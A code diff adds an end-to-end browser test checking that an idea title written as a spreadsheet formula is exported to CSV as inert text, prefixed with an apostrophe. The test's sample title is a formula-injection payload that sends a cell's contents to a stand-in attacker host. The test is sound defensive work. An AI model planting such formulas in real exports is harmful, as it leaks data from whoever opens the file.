@@ -61,3 +61,24 @@ def test_explore_sort_export_and_bulk_plan(
     expect(page.get_by_role("alert").first).to_contain_text("2 ideas changed.")
     expect(rows.first).to_contain_text("Planned")
     expect(rows.nth(1)).to_contain_text("Planned")
+
+
+def test_a_title_written_as_a_formula_downloads_as_text(
+    browser, base_url, live_server, live_user, live_space, sign_in, tmp_path
+):
+    owner = live_user(role=Role.MODERATOR)
+    slug = live_space(owner, name="Formula Lab", slug="formula-bt")
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open report")'
+    _ideas(live_server, slug, owner, [hostile], voters=[(owner, hostile)])
+    page = browser.new_context(base_url=base_url, accept_downloads=True).new_page()
+    sign_in(page, owner.username)
+    page.goto(f"/analytics/ideas?space={slug}")
+    expect(page.get_by_test_id("explorer-row")).to_contain_text(hostile)  # shown as written
+    with page.expect_download() as download:
+        page.get_by_role("link", name="Export CSV").click()
+    saved = tmp_path / "ideas.csv"
+    download.value.save_as(saved)
+    with saved.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
+    exported = dict(zip(rows[0], rows[1], strict=True))
+    assert exported["title"] == "'" + hostile and exported["votes"] == 1.0
